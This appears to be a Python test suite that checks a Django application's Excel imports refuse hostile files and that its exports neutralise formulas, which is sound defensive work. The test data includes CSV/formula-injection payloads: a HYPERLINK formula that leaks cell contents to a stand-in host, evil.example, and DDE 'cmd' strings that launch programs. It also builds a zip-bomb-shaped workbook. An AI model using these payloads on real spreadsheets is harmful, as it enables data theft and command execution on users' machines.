"""Hostile Excel files against EVERY import of the application (``read_rows`` users): each gets
a clear row-level report (Chinese by default, English with the English locale) and nothing is
written; no file makes an import crash. Also: what valid but unusual files (full-width digits,
ideographic spaces, dates as text, empty rows in between) import as, and Excel exports that
neutralise formulas from user data.

Not marked ``security``: these also run in the PostgreSQL pass of ``make test``.
"""

from __future__ import annotations

import datetime as dt
import io
import resource
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from django.apps import apps
from django.utils import translation
from openpyxl import Workbook, load_workbook

from baogong.catalog import actions as catalog_actions
from baogong.core import excel
from baogong.core.audit import SystemActor
from baogong.core.excel import ImportFailed
from baogong.core.models import AuditEvent

SYSTEM = SystemActor("tests")
FUTURE = (dt.date.today() + dt.timedelta(days=30)).isoformat()


@dataclass(frozen=True)
class Spec:
    """One import of the application, with a row that is valid on the base data (when ``valid``)."""

    name: str
    module: str
    function: str
    columns: str
    model: str
    user: str
    row: Callable[[int], dict[str, Any]]
    valid: bool = True
    number: str | None = None  # a column holding a quantity or amount
    date: str | None = None
    text: str = ""  # a required text column
    key: str | None = None  # the column that must be unique in a file
    extra: dict[str, Any] = field(default_factory=dict)

    def load(self) -> tuple[Callable[..., Any], list[excel.Column]]:
        import importlib

        module = importlib.import_module(self.module)
        return getattr(module, self.function), getattr(module, self.columns)


SPECS = [
    Spec(
        "catalog.items",
        "baogong.catalog.actions",
        "import_items",
        "ITEM_COLUMNS",
        "catalog.Item",
        "commander",
        lambda i: {"code": f"H-{i:06d}", "name": f"物资{i}", "unit": "箱", "pack_qty": 10},
        number="pack_qty",
        text="name",
        key="code",
    ),
    Spec(
        "orgs.sites",
        "baogong.orgs.actions",
        "import_sites",
        "SITE_COLUMNS",
        "orgs.Site",
        "commander",
        lambda i: {
            "code": f"DP-H-{i:06d}",
            "name": f"配送点{i}",
            "kind": "delivery_point",
            "organisation": "BSZF",
            "headcount": 100,
        },
        number="headcount",
        text="name",
        key="code",
    ),
    Spec(
        "distribution.requests",
        "baogong.distribution.actions.imports",
        "import_requests",
        "IMPORT_COLUMNS",
        "distribution.Request",
        "commander",
        lambda i: {"recipient": "FH-FCL", "item": "N95", "qty": 5, "needed_by": FUTURE, "reference": f"R{i}"},
        number="qty",
        date="needed_by",
        text="item",
    ),
    Spec(
        "property.leases",
        "baogong.property.actions.imports",
        "import_leases",
        "LEASE_COLUMNS",
        "property.Lease",
        "commander",
        lambda i: {
            "tenant_code": f"T-H{i}",
            "tenant_name": f"租户{i}",
            "kind": "企业",
            "lease_code": f"L-H{i}",
            "property_code": "P-NOPE",
            "units": "101",
            "rent": "3000.00",
            "period_months": 3,
            "start": "2022-01-01",
            "end": "2023-12-31",
        },
        valid=False,
        number="rent",
        date="start",
        text="tenant_name",
    ),
    Spec(
        "pharmacy.settlements",
        "baogong.pharmacy.actions.settlement",
        "import_settlements",
        "SETTLEMENT_COLUMNS",
        "pharmacy.Settlement",
        "commander",
        lambda i: {
            "order": f"YD-NOPE-{i}",
            "transaction_number": f"YB{i:08d}",
            "personal_current": "20.00",
            "personal_prior": "0",
        },
        valid=False,
        number="personal_current",
        text="transaction_number",
    ),
    Spec(
        "people.health_tests",
        "baogong.people.imports",
        "import_health_tests",
        "TEST_COLUMNS",
        "people.HealthTest",
        "commander",
        lambda i: {
            "id_number": "310113198001010013",
            "name": "王建国",
            "kind": "核酸",
            "taken_at": "2022-04-12 08:30",
            "result": "阴性",
        },
        valid=False,
        text="name",
    ),
]
BY_NAME = {s.name: s for s in SPECS}


def test_every_read_rows_import_is_covered():
    """A new importer must be added to SPECS: every module calling read_rows is listed here."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parents[2] / "baogong"
    callers = {
        ".".join(p.relative_to(root.parent).with_suffix("").parts)
        for p in root.rglob("*.py")
        if "/tests/" not in str(p) and p.name != "excel.py" and "read_rows(" in p.read_text(encoding="utf-8")
    }
    assert callers <= {s.module for s in SPECS}, callers - {s.module for s in SPECS}
    for spec in SPECS:
        assert callable(spec.load()[0])


def model_of(spec: Spec) -> Any:
    return apps.get_model(spec.model)


def build(spec: Spec, rows: list[dict[str, Any] | None], *, headers: list[str] | None = None) -> io.BytesIO:
    """A workbook with the import's own headers; ``None`` rows are left empty."""
    _function, columns = spec.load()
    book = Workbook()
    sheet = book.active
    sheet.append(headers if headers is not None else [c.header for c in columns])
    for row in rows:
        sheet.append([] if row is None else [row.get(c.key) for c in columns])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    buffer.name = "hostile.xlsx"
    return buffer


@pytest.fixture
def world(base):
    catalog_actions.create_item({"code": "N95", "name": "医用防护口罩", "unit": "盒"}, actor=SYSTEM)


def run(spec: Spec, file: Any, user: Callable[[str], Any]) -> Any:
    function, _columns = spec.load()
    return function(file, actor=user(spec.user))


def refused(spec: Spec, file: Any, user: Callable[[str], Any]) -> list[dict[str, Any]]:
    """Import the file; it must be refused with a row report and write nothing."""
    model = model_of(spec)
    count, events = model.objects.count(), AuditEvent.objects.count()
    with pytest.raises(ImportFailed) as caught:
        run(spec, file, user)
    assert model.objects.count() == count
    assert AuditEvent.objects.count() == events
    assert caught.value.message
    report = caught.value.details["rows"]
    for entry in report:
        assert set(entry) >= {"row", "field", "message"}
        assert str(entry["message"])
    return report


def has(report: list[dict[str, Any]], row: int, field: str, message: str | None = None) -> bool:
    return any(
        e["row"] == row and e["field"] == field and (message is None or str(e["message"]) == message) for e in report
    )


def test_valid_rows_of_the_specs_import(world, user):
    """The baseline rows really are valid, so each hostile test below changes one thing."""
    for spec in SPECS:
        if spec.valid:
            model = model_of(spec)
            count = model.objects.count()
            run(spec, build(spec, [spec.row(1), spec.row(2)]), user)
            assert model.objects.count() > count, spec.name


# --- columns ------------------------------------------------------------------------------------
@pytest.mark.parametrize("spec", SPECS, ids=lambda s: s.name)
def test_missing_required_column(world, user, spec):
    _function, columns = spec.load()
    required = next(c for c in columns if c.required)
    headers = [c.header for c in columns if c is not required]
    rows = [{k: v for k, v in spec.row(1).items()}]
    book = Workbook()
    sheet = book.active
    sheet.append(headers)
    sheet.append([rows[0].get(c.key) for c in columns if c is not required])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    report = refused(spec, buffer, user)
    assert has(report, 1, required.header, "缺少此列")


@pytest.mark.parametrize("spec", SPECS, ids=lambda s: s.name)
def test_renamed_or_unknown_column(world, user, spec):
    """A column the import does not know would be silently dropped: it is reported instead."""
    _function, columns = spec.load()
    headers = [c.header for c in columns] + ["备注二 / Remarks 2"]
    book = Workbook()
    sheet = book.active
    sheet.append(headers)
    sheet.append([spec.row(1).get(c.key) for c in columns] + ["会被丢掉的数据"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    report = refused(spec, buffer, user)
    assert has(report, 1, "备注二 / Remarks 2", "未知的列")


def test_headers_match_by_chinese_or_key_with_full_width_spaces(world, user):
    spec = BY_NAME["catalog.items"]
    headers = ["\u3000编码\u3000", "name", "发放单位 / Issue unit"]
    book = Workbook()
    book.active.append(headers)
    book.active.append(["ＨＷ-１", "全角物资", "箱"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    assert run(spec, buffer, user) == {"created": 1, "updated": 0}
    assert model_of(spec).objects.filter(code="HW-1", name="全角物资").exists()


# --- formulas -----------------------------------------------------------------------------------
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "@SUM(1+1)|x!A1",
    "+cmd|' /C notepad'!A0",
]


@pytest.mark.parametrize("spec", SPECS, ids=lambda s: s.name)
def test_formulas_are_refused(world, user, spec):
    for formula in FORMULAS:
        report = refused(spec, build(spec, [spec.row(1), {**spec.row(2), spec.text: formula}]), user)
        assert has(report, 3, spec.text, "不接受公式"), (formula, report)


def test_formula_message_in_english(world, user):
    spec = BY_NAME["catalog.items"]
    with translation.override("en"):
        report = refused(spec, build(spec, [{**spec.row(1), "name": "=1+1"}]), user)
    assert has(report, 2, "name", "formulas are not accepted")


# --- numbers ------------------------------------------------------------------------------------
NUMBER_SPECS = [s for s in SPECS if s.number]


@pytest.mark.parametrize("spec", NUMBER_SPECS, ids=lambda s: s.name)
def test_huge_or_non_numbers_are_refused(world, user, spec):
    for value in [1e308, -1e308, 10**30, "1e400", "NaN", "Infinity", "12abc", True]:
        report = refused(spec, build(spec, [spec.row(1), {**spec.row(2), spec.number: value}]), user)
        assert any(e["row"] == 3 and e["field"] == spec.number for e in report), (value, report)


@pytest.mark.parametrize("spec", NUMBER_SPECS, ids=lambda s: s.name)
def test_negative_quantities_are_refused(world, user, spec):
    for value in [-5, -0.5]:
        report = refused(spec, build(spec, [spec.row(1), {**spec.row(2), spec.number: value}]), user)
        assert any(e["row"] == 3 for e in report), (value, report)


@pytest.mark.parametrize("spec", [BY_NAME["distribution.requests"], BY_NAME["catalog.items"]], ids=lambda s: s.name)
def test_zero_quantities_are_refused(world, user, spec):
    report = refused(spec, build(spec, [spec.row(1), {**spec.row(2), spec.number: 0}]), user)
    assert any(e["row"] == 3 for e in report), report


def test_full_width_digits_and_spaces_are_read_as_half_width(world, user):
    spec = BY_NAME["distribution.requests"]
    from baogong.distribution.models import RequestLine

    rows = [
        {
            **spec.row(1),
            "recipient": "\u3000FH-FCL\u3000",
            "item": "Ｎ９５\u200b",
            "qty": "１２",
            "needed_by": "２０３０－０１－３１",
        }
    ]
    made = run(spec, build(spec, rows), user)
    line = RequestLine.objects.get(request=made[0])
    assert (line.item.code, line.qty, line.needed_by) == ("N95", 12, dt.date(2030, 1, 31))


# --- dates --------------------------------------------------------------------------------------
def test_dates_as_text_in_year_month_day_order(world, user):
    spec = BY_NAME["distribution.requests"]
    from baogong.distribution.models import RequestLine

    texts = [
        "2030-01-31",
        "2030/1/31",
        "2030.1.31",
        "2030年1月31日",
        "20300131",
        "2030-01-31 00:00:00",
        " 2030 / 01 / 31 ",
    ]
    for text in texts:
        made = run(spec, build(spec, [{**spec.row(1), "needed_by": text}]), user)
        assert RequestLine.objects.get(request=made[0]).needed_by == dt.date(2030, 1, 31), text


@pytest.mark.parametrize("spec", [s for s in SPECS if s.date], ids=lambda s: s.name)
def test_ambiguous_or_impossible_dates_are_refused(world, user, spec):
    for text in ["31/01/2030", "01/31/2030", "2030-02-30", "明天", "2030-13-01", "45000x"]:
        report = refused(spec, build(spec, [spec.row(1), {**spec.row(2), spec.date: text}]), user)
        assert has(report, 3, spec.date, "不是日期(YYYY-MM-DD)"), (text, report)


# --- keys ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("spec", [s for s in SPECS if s.key], ids=lambda s: s.name)
def test_duplicated_keys_within_the_file(world, user, spec):
    row = spec.row(1)
    report = refused(spec, build(spec, [row, spec.row(2), {**row, spec.text: "又一行"}]), user)
    assert has(report, 4, spec.key, "与第 2 行重复")


@pytest.mark.parametrize("spec", [s for s in SPECS if s.key], ids=lambda s: s.name)
def test_keys_already_in_the_database_update_instead_of_duplicating(world, user, spec):
    model = model_of(spec)
    run(spec, build(spec, [spec.row(1)]), user)
    count = model.objects.count()
    run(spec, build(spec, [{**spec.row(1), spec.text: "改名"}]), user)
    assert model.objects.count() == count
    assert model.objects.get(**{spec.key: spec.row(1)[spec.key]}).name == "改名"


# --- layout -------------------------------------------------------------------------------------
def test_empty_rows_in_between_are_skipped_and_rows_keep_their_sheet_numbers(world, user):
    spec = BY_NAME["catalog.items"]
    file = build(spec, [spec.row(1), None, None, {**spec.row(2), "name": "=1"}, None, spec.row(3)])
    report = refused(spec, file, user)
    assert [(e["row"], e["field"]) for e in report] == [(5, "name")]
    ok = build(spec, [spec.row(1), None, {"code": "\u3000", "name": "\u200b"}, spec.row(3)])
    assert run(spec, ok, user) == {"created": 2, "updated": 0}


@pytest.mark.parametrize("spec", SPECS, ids=lambda s: s.name)
def test_merged_cells_leave_the_hidden_cells_empty_and_reported(world, user, spec):
    _function, columns = spec.load()
    position = next(i for i, c in enumerate(columns) if c.required) + 1
    file = build(spec, [spec.row(1), spec.row(2)])
    book = load_workbook(file)
    sheet = book.active
    sheet.merge_cells(start_row=2, start_column=position, end_row=3, end_column=position)
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    report = refused(spec, buffer, user)
    assert has(report, 3, columns[position - 1].key, "必填")


# --- files that are not workbooks ---------------------------------------------------------------
def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


NOT_WORKBOOKS = {
    "empty": b"",
    "pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF",
    "csv": "编码,名称\nA,甲\n".encode(),
    "xls (OLE)": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
    "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "truncated zip": zip_bytes({"[Content_Types].xml": b"<Types/>"})[:40],
    "zip without a workbook": zip_bytes({"readme.txt": b"hello"}),
    "zip with a broken workbook": zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<not xml"}),
}


@pytest.mark.parametrize("spec", SPECS, ids=lambda s: s.name)
def test_a_file_that_is_not_a_workbook_is_refused(world, user, spec):
    for kind, content in NOT_WORKBOOKS.items():
        file = io.BytesIO(content)
        file.name = "renamed.xlsx"
        report = refused(spec, file, user)
        assert report and report[0]["field"] == "file", kind


def test_not_a_workbook_message_in_both_languages(world, user):
    spec = BY_NAME["catalog.items"]
    with pytest.raises(ImportFailed) as caught:
        run(spec, io.BytesIO(b"%PDF-1.4"), user)
    assert str(caught.value.message) == "无法读取该 .xlsx 文件。"
    with translation.override("en"), pytest.raises(ImportFailed) as caught:
        run(spec, io.BytesIO(b"%PDF-1.4"), user)
    assert str(caught.value.message) == "The file is not a readable .xlsx workbook."


@pytest.mark.parametrize("spec", SPECS, ids=lambda s: s.name)
def test_a_zip_bomb_shaped_workbook_is_refused_before_it_is_inflated(world, user, spec):
    real = build(spec, [spec.row(1)]).getvalue()
    with zipfile.ZipFile(io.BytesIO(real)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * 30_000_000)
    bomb = io.BytesIO(zip_bytes(members))
    assert len(bomb.getvalue()) < 1_000_000
    report = refused(spec, bomb, user)
    assert has(report, 0, "file", "解压后文件过大")


# --- size ---------------------------------------------------------------------------------------
@pytest.mark.slow
def test_100000_bad_rows_get_a_bounded_report_nothing_written_bounded_memory(world, user):
    spec = BY_NAME["distribution.requests"]
    _function, columns = spec.load()
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append([c.header for c in columns])
    for i in range(100_000):
        sheet.append(["NO-SUCH-SITE", "N95", 5, FUTURE, f"R{i}"])
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    del book, sheet
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
    with pytest.raises(ImportFailed) as caught:
        run(spec, buffer, user)
    growth_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before) / 1024
    details = caught.value.details
    assert len(details["rows"]) == excel.MAX_REPORTED_ERRORS
    assert details["total_errors"] == 100_000
    assert details["rows"][0] == {"row": 2, "field": "recipient", "message": "收货单位不存在"}
    assert details["rows"][-1]["row"] == excel.MAX_REPORTED_ERRORS + 1
    assert model_of(spec).objects.count() == 0
    assert growth_mib < 400, growth_mib  # the parsed rows, not the sheet's XML, are held


def test_too_many_rows_are_refused_with_the_row_number(world, user, monkeypatch):
    spec = BY_NAME["catalog.items"]
    monkeypatch.setattr(excel, "MAX_IMPORT_ROWS", 5)
    report = refused(spec, build(spec, [spec.row(i) for i in range(8)]), user)
    assert report == [{"row": 7, "field": "", "message": "行数过多"}]


# --- exports ------------------------------------------------------------------------------------
@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "＝1+1"])
def test_exports_neutralise_formulas_from_user_data(value):
    body = excel.workbook_bytes("t", ["名称 / Name", "数量 / Qty"], [[value, 5], ["普通", -3]])
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = load_workbook(io.BytesIO(body)).active
    cell = sheet["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
    assert (sheet["B3"].value, sheet["B3"].data_type) == (-3, "n")  # numbers stay numbers
    assert sheet["A3"].quotePrefix is False


def test_neutralise_formulas_covers_workbooks_built_elsewhere():
    """finance and reports build their own workbooks and call it before saving."""
    book = Workbook()
    book.active.append(["任务 Mission", '=HYPERLINK("http://evil.example","点我")'])
    book.active.append(["@cmd", 5])
    book.create_sheet("notes")["A1"] = "+cmd|' /C calc'!A0"
    excel.neutralise_formulas(book)
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2 and not any(b"<f>" in xml for xml in sheets)
    reread = load_workbook(io.BytesIO(buffer.getvalue()))
    assert reread.active["B1"].value.startswith("=HYPERLINK") and reread.active["B1"].data_type == "s"
    assert reread.active["B2"].value == 5
